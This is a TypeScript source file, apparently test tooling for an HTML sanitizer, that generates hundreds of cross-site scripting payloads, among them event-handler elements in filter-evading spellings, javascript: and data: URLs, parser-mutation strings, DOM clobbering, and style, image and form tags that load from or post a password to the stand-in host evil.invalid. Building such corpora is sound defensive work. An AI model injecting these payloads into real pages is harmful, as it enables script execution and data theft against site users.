/**
 * HTML that tries to run a script, by families: each way in with each of its spellings. What runs calls `ran` with the
 * payload's number, or asks for something of `evil.invalid`.
 */

type Payload = (call: string) => string

const EVIL = "https://evil.invalid"

/** Elements that run a handler by themselves once they are in a page. */
const SELF_STARTING: Record<string, string[]> = {
  onerror: [
    "img src=x",
    "img src",
    "img srcset=x",
    "image src=x",
    "video src=x",
    "audio src=x",
    "input type=image src=x",
    "object data=x",
    "embed src=x",
    "link rel=stylesheet href=x",
    "script src=x",
    "iframe src=x",
  ],
  onload: [
    "svg",
    "body",
    "iframe src=about:blank",
    "img src=/favicon.svg",
    "link rel=stylesheet href=/favicon.svg",
    "style",
  ],
  onfocus: [
    "input autofocus",
    "textarea autofocus",
    "select autofocus",
    "button autofocus",
    "a href=# autofocus",
    "div tabindex=0 autofocus",
    "h2 id=x tabindex=0 autofocus",
    "p contenteditable autofocus",
    "details open tabindex=0 autofocus",
    "svg tabindex=0 autofocus",
  ],
  ontoggle: ["details open", "div popover id=p"],
  onbegin: ["svg><animate dur=1s", "svg><set attributeName=x", "svg><animateTransform attributeName=transform dur=1s"],
  onend: ["svg><animate dur=.001s", "svg><set dur=.001s attributeName=x"],
  onstart: ["marquee"],
  onanimationstart: ["style>@keyframes k{}</style><p style=animation-name:k", "p style=animation:fade"],
  ontransitionend: ["p style=transition:.01s"],
  onpageshow: ["body"],
  onhashchange: ["body"],
  onloadstart: ["video src=x", "audio src=x"],
  oncanplay: ["audio src=/x.mp3"],
  onunload: ["body"],
  onscroll: ["body"],
  onmessage: ["body"],
}

/** Handlers that wait for somebody, on elements that texts may hold. */
const WAITING =
  "onclick onmouseover onmouseenter onpointerdown onpointerenter onkeydown oncopy onbeforeinput ondragstart onwheel".split(
    " ",
  )
const OF_TEXTS = [
  "p",
  "a href=/",
  "li",
  "h2",
  "h3 id=faq-x",
  "td",
  "strong",
  "em",
  "img src=/media/images/tile-hall.webp",
  "table",
]

/** How a handler may be written so that a filter misreads it. */
const SPELLINGS: ((element: string, handler: string, call: string) => string)[] = [
  (element, handler, call) => `<${element} ${handler}=${call}>`,
  (element, handler, call) => `<${element} ${handler}="${call}">x`,
  (element, handler, call) => `<${element} ${handler.toUpperCase()}='${call}'>`,
  (element, handler, call) => `<${element}\n${handler}\t=\f"${call}"//>`,
  (element, handler, call) => `<${element.replace(" ", "/")}/${handler}=${call}>`,
  (element, handler, call) => `<${element} a="'" ${handler}="${entities(call)}">`,
  (element, handler, call) => `<${element} a='>' ${handler}=${call} b="`,
]

const entities = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join("")
const hexEntities = (text: string) => [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join(";")

/** Addresses that are scripts, as browsers read them and filters may not. */
const SCRIPT_ADDRESSES: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `java&#9;script:${call}`,
  (call) => `java&Tab;script&colon;${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `&#x6A;avascript:${call}`,
  (call) => hexEntities(`javascript:${call}`),
  (call) => `javascript://%0a${call}`,
  (call) => `javascript:/*--></title></style></textarea></script>*/${call}`,
  (call) => `data:text/html,<script>top.${call}</script>`,
  (call) => `data:text/html;base64,${Buffer.from(`<script>top.${call}</script>`).toString("base64")}`,
  (call) => `vbscript:${call}`,
  (call) => `blob:${EVIL}/${call}`,
  (call) => `//evil.invalid/${call}.js`,
  (call) => `/\\evil.invalid/${call}.js`,
]

/** Where an address is followed or loaded. */
const ADDRESS_PLACES: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a target=_blank href='${address}'>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><input type=submit formaction="${address}"></form>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"></use></svg>`,
  (address) => `<math><maction xlink:href="${address}">x</maction></math>`,
  (address) => `<img src="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<script src="${address}"></script>`,
]

/** Pieces that change what they are when they are read a second time, or in another place. */
const MUTATING: Payload[] = [
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<svg><foreignObject><math><mi><svg><desc><title><a title="</title><img src=x onerror=${call}>">`,
  (call) => `<table><td><svg><style></td></table><img src=x onerror=${call}></style></svg>`,
  (call) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style></annotation-xml></math>`,
  (call) => `<select><template><style></select><img src=x onerror=${call}></style></template>`,
  (call) => `<svg><title><style><!--</style><img src=x onerror=${call}>--></title></svg>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<noembed><img title="</noembed><img src=x onerror=${call}>">`,
  (call) => `<noframes><p id="</noframes><svg onload=${call}>">`,
  (call) => `<textarea><p title="</textarea><svg onload=${call}>">`,
  (call) => `<title><p title="</title><svg onload=${call}>">`,
  (call) => `<iframe><p title="</iframe><svg onload=${call}>">`,
  (call) => `<plaintext><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!--!><img src=x onerror=${call}>`,
  (call) => `<!-- --!><img src=x onerror=${call}>`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<svg><![CDATA[</svg><img src=x onerror=${call}>]]></svg>`,
  (call) => `<?xml ><img src=x onerror=${call}>?>`,
  (call) => `<!doctype x [<!entity y "<img src=x onerror=${call}>">]>&y;`,
  (call) => `<p title="\`<img src=x onerror=${call}>\`">x</p>`,
  (call) => `<b><p title='</p></b><svg onload=${call}>'>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `<<img src=x onerror=${call}>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<img src="x\` \`<script>${call}</script>"\` \`>`,
  (call) => `<img/alt="/"src="x"onerror=${call}>`,
  (call) => `<img alt="a\u0000b" src=x onerror=${call}>`,
  (call) => `<im\u0000g src=x onerror=${call}>`,
  (call) => `<\u0000script>${call}</script>`,
  (call) => `<sc<script>ript>${call}</sc</script>ript>`,
  (call) => `<scr<p>ipt>${call}</scr</p>ipt>`,
  (call) => `<h2 id="x"<img src=x onerror=${call}>>Titel</h2>`,
  (call) => `<h2 id='"><img src=x onerror=${call}>'>Titel</h2>`,
  (call) => `<h2 id="faq-x&quot;><img src=x onerror=${call}>">Titel</h2>`,
  (call) => `<a href="/&quot;><img src=x onerror=${call}>">x</a>`,
  (call) => `<a href="https://example.ch/?a='><svg onload=${call}>'">x</a>`,
  (call) => `<a href='mailto:a@b.ch?"onclick=${call} x="'>x</a>`,
  (call) => `<img src="/media/images/tile-hall.webp" alt='"><svg onload=${call}>'>`,
  (call) => `<img src="/media/images/tile-hall.webp" width='1"onload="${call}'>`,
  (call) => `<td colspan='2" onmouseover="${call}'>x</td>`,
  (call) => `<svg><p><style><g title="</style><img src=x onerror=${call}>">`,
  (call) => `<math><mi><table><tr><td><svg><style><p id="</style><svg onload=${call}>">`,
  (call) =>
    `<template><img src=x onerror=${call}></template><svg><template><img src=x onerror=${call}></template></svg>`,
]

/** Scripts that stand in the text, and what stands for them. */
const SCRIPTS: Payload[] = [
  ...[
    "script",
    "SCRIPT",
    "script type=module",
    "script async",
    "script/x",
    "script\n",
    "script defer=1",
    "svg><script",
  ].map((opening) => (call: string) => `<${opening}>${call}</script>`),
  (call) => `<script>${call}`,
  (call) => `<script>${call}</script foo>`,
  (call) => `<script type=application/json id=state>{"shop":{"videoHost":"javascript:${call}"}}</script>`,
  (call) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${EVIL}/${call}"]}]}</script>`,
  (call) => `<script type=importmap>{"imports":{"react":"data:text/javascript,${call}"}}</script>`,
  (call) => `<svg><script href="data:text/javascript,${call}"></script></svg>`,
  (call) => `<svg><script xlink:href="data:text/javascript,${call}" /></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<svg onload=parent.${call}>"></iframe>`,
  (call) => `<object type=text/html data="data:text/html,<script>parent.${call}</script>"></object>`,
  (call) =>
    `<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
  (call) => `<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload=${call}></foreignObject></svg>`,
  (call) => `<svg><animate attributeName=href values="javascript:${call}" /><a id=x><text>x</text></a></svg>`,
  (call) => `<svg><set attributeName=onmouseover to="${call}"></svg>`,
  (call) => `<svg><image href=x onerror=${call} /></svg>`,
  (call) => `<svg><feImage href=x onerror=${call} /></svg>`,
  (call) => `<svg><handler type=text/javascript>${call}</handler></svg>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) =>
    `<math><semantics><annotation-xml encoding=application/xhtml+xml><script>${call}</script></annotation-xml></semantics></math>`,
  (call) => `<x-y onclick=${call} tabindex=0 autofocus onfocus=${call}>x</x-y>`,
  (call) => `<button is=x-y onfocus=${call} autofocus>x</button>`,
  (call) =>
    `<dialog open onclose=${call}><form method=dialog><button autofocus onfocus=${call}>x</button></form></dialog>`,
  (call) => `<portal src="javascript:${call}" onload=${call}></portal>`,
  (call) => `<frameset onload=${call}><frame src=x onload=${call}></frameset>`,
  (call) => `<isindex action="javascript:${call}" type=submit>`,
  (call) => `<applet code=x onerror=${call}></applet>`,
  (call) => `<p><video><source onerror=${call}></video></p>`,
  (call) => `<picture><source srcset=x onerror=${call}><img src=x onerror=${call}></picture>`,
  (call) => `<track default src=x onload=${call}><video><track default src=x onerror=${call}></video>`,
]

/** Styles and elements that ask for something of elsewhere, or take the page over without a script. */
const WITHOUT_SCRIPT: Payload[] = [
  (call) => `<style>@import '${EVIL}/${call}.css';</style>`,
  (call) => `<style>*{background:url(${EVIL}/${call}.png)}</style>`,
  (call) => `<p style="background:url(${EVIL}/${call}.png)">x</p>`,
  (call) => `<p style="background:expression(${call})">x</p>`,
  (call) => `<p style="-moz-binding:url(${EVIL}/${call}.xml)">x</p>`,
  (call) => `<p style="position:fixed;inset:0;background:url(&quot;${EVIL}/${call}&quot;)">x</p>`,
  (call) => `<img src="${EVIL}/${call}.png">`,
  (call) => `<img src="/media/images/tile-hall.webp" srcset="${EVIL}/${call}.png 2x">`,
  (call) => `<img src="//evil.invalid/${call}.png" loading=eager>`,
  (call) => `<img src="/\\evil.invalid/${call}.png">`,
  (call) => `<img src="/static/..//evil.invalid/${call}.png">`,
  (call) => `<img src="/static/x.svg?${call}">`,
  (call) => `<img lowsrc="${EVIL}/${call}" dynsrc="${EVIL}/${call}">`,
  (call) => `<table background="${EVIL}/${call}.png"><tr><td background="${EVIL}/${call}.png">x</td></tr></table>`,
  (call) => `<body background="${EVIL}/${call}.png">`,
  (call) => `<link rel=stylesheet href="${EVIL}/${call}.css">`,
  (call) => `<link rel=preload as=script href="${EVIL}/${call}.js">`,
  (call) => `<link rel=prefetch href="${EVIL}/${call}">`,
  (call) => `<link rel=dns-prefetch href="//${call.replace(/\W/g, "")}.evil.invalid">`,
  (call) => `<link rel=manifest href="${EVIL}/${call}">`,
  (call) => `<base href="${EVIL}/${call}/">`,
  (call) => `<base target="${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=${EVIL}/${call}">`,
  (call) => `<meta http-equiv=Content-Security-Policy content="script-src *; ${call}">`,
  (call) => `<meta name=referrer content=unsafe-url data-x="${call}">`,
  (call) => `<form action="${EVIL}/${call}"><input autofocus name=password type=password></form>`,
  (call) => `<form id=root><input name=attributes value="${call}"><input name=childNodes></form>`,
  (call) => `<form name=getElementById><input id=querySelector value="${call}"></form>`,
  (call) => `<img name=getElementById alt="${call}"><img name=cookie><img name=body>`,
  (call) => `<a id=dataLayer href="${EVIL}/${call}">x</a><a id=dataLayer name=push>x</a>`,
  (call) => `<h2 id="state">{"shop":{"chatUrl":"javascript:${call}"},"queries":{"queries":[]}}</h2>`,
  (call) => `<h2 id="root">${call}</h2>`,
  (call) => `<h3 id="inhalt" name="inhalt" class="toast" style="color:red">${call}</h3>`,
  (call) => `<p id="__proto__" class="constructor" data-x="${call}" is="x">x</p>`,
  (call) => `<iframe name=top src="${EVIL}/${call}"></iframe>`,
  (call) => `<iframe name=ran src="about:blank#${call}"></iframe>`,
  (call) => `<video poster="${EVIL}/${call}.png" src="${EVIL}/${call}.mp4" autoplay></video>`,
  (call) => `<audio src="${EVIL}/${call}.mp3" autoplay></audio>`,
  (call) => `<object data="${EVIL}/${call}"><param name=src value="${EVIL}/${call}"></object>`,
  (call) => `<svg><image href="${EVIL}/${call}.png" /><use href="${EVIL}/${call}.svg#x" /></svg>`,
  (call) => `<svg><style>@import '${EVIL}/${call}.css'</style></svg>`,
  (call) => `<blockquote cite="${EVIL}/${call}"><q cite="javascript:${call}">x</q></blockquote>`,
  (call) => `<a href="/" ping="${EVIL}/${call}">x</a>`,
  (call) => `<a href="/" target="_top" rel="opener" onclick="${call}">x</a>`,
  (call) => `<a href="https:evil.invalid/${call}">x</a>`,
  (call) => `<p slot=x contenteditable popover="manual" popovertarget=x inert hidden>${call}</p>`,
]

const selfStarting: Payload[] = Object.entries(SELF_STARTING).flatMap(([handler, elements]) =>
  elements.flatMap((element) => SPELLINGS.map((spelling) => (call: string) => spelling(element, handler, call))),
)
const waiting: Payload[] = OF_TEXTS.flatMap((element, at) =>
  WAITING.map((handler, place) => (call: string) => SPELLINGS[(at + place) % SPELLINGS.length](element, handler, call)),
)
const addresses: Payload[] = ADDRESS_PLACES.flatMap((placed) =>
  SCRIPT_ADDRESSES.map((address) => (call: string) => placed(address(call))),
)

/** All of them, each with a number of its own. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...selfStarting,
  ...waiting,
  ...addresses,
  ...MUTATING,
  ...SCRIPTS,
  ...WITHOUT_SCRIPT,
].map((payload, number) => payload(`ran(${number})`))

/** Ends whatever a payload has begun, so that the next one begins for itself. */
const ENDS = `"'-->]]></style></script></title></textarea></xmp></noscript></noembed></noframes></iframe></svg></math></template></select></object></form></table>`
const markOf = (number: number) => `<p>n${number}</p>`

/** Payloads as one text, each ended and followed by a mark. NUL can't be stored, and is refused before. */
export const textOf = (payloads: readonly string[], first = 0): string =>
  payloads.map((payload, at) => `${payload.replaceAll("\0", "")}${ENDS}${markOf(first + at)}`).join("\n")

/** Which of the marks are still there. */
export const marksIn = (text: string): number[] =>
  [...text.matchAll(/<p>n(\d+)<\/p>/g)].map(([, number]) => Number(number))
